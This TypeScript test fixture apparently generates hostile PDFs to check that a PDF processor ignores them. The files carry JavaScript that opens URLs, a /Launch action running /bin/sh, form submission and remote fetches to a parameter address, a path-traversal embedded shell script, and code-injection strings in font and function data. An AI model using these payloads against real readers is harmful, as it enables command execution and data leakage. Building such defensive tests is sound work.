import type { HostileFiles } from './hostile-file.ts'
import { painted, pdfOfPages, stream, value, wordsPdf } from './raw-pdf.ts'

const opened = (action: string, more = [value('null')]): Buffer =>
  wordsPdf({ catalogue: `/OpenAction ${action}`, page: `/AA << /O ${action} >>`, more })

/**
 * Files that ask a reader to do something: run, open, send, fetch.
 * @param address of a server that must not be asked
 * @param file a path at which nothing may be made
 */
export const activeFiles = (address: string, file: string): HostileFiles => ({
  not_a_profile: {
    'script.pdf': () =>
      opened(
        `<< /S /JavaScript /JS (app.launchURL\\("${address}"\\); this.exportDataObject\\({cName: "${file}"}\\);) >>`,
      ),
    'launch.pdf': () =>
      opened(`<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c "touch ${file}") >> >>`),
    'address.pdf': () => opened(`<< /S /URI /URI (${address}) >>`),
    'other-document.pdf': () => opened(`<< /S /GoToR /F << /FS /URL /F (${address}) >> /D [0 /Fit] >>`),
    'form-that-sends.pdf': () =>
      wordsPdf({
        catalogue: `/AcroForm << /Fields [6 0 R] /XFA 7 0 R /NeedAppearances true >> /OpenAction << /S /SubmitForm /F (${address}) >>`,
        page: '/Annots [6 0 R]',
        more: [
          value(
            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 9 9] /A << /S /SubmitForm /F (${address}) >> >>`,
          ),
          stream(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("${address}")</script></event></subform></template></xdp:xdp>`,
          ),
        ],
      }),
    'embedded-file.pdf': () =>
      wordsPdf({
        catalogue: `/Names << /EmbeddedFiles << /Names [(x) 6 0 R] >> >>`,
        more: [
          value(`<< /Type /Filespec /F (../../../../../../../..${file}) /EF << /F 7 0 R >> >>`),
          stream('#!/bin/sh\nexit 1\n', '/Type /EmbeddedFile'),
        ],
      }),
    'picture-from-elsewhere.pdf': () =>
      painted(
        'q 100 0 0 100 0 0 cm /I Do Q',
        '/XObject << /I 6 0 R >>',
        stream(
          '',
          `/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${address}) >>`,
        ),
      ),
    'code-in-a-function.pdf': () =>
      painted(
        '/P sh',
        '/Shading << /P 6 0 R >>',
        value('<< /ShadingType 1 /ColorSpace /DeviceRGB /Function 7 0 R >>'),
        stream(
          '{ process exit (require) eval 1 1 1 }',
          '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]',
        ),
      ),
    'font-name-of-code.pdf': () =>
      wordsPdf({
        font: value(
          '<< /Type /Font /Subtype /Type1 /BaseFont /x);process.exit(1);// /FontMatrix [(1\\); process.exit\\(1\\)//) 0 0 1 0 0] >>',
        ),
      }),
  },
  empty_document: {
    'stream-from-elsewhere.pdf': () =>
      pdfOfPages([stream('', `/F << /FS /URL /F (${address}) >> /FFilter /FlateDecode`)]),
  },
})
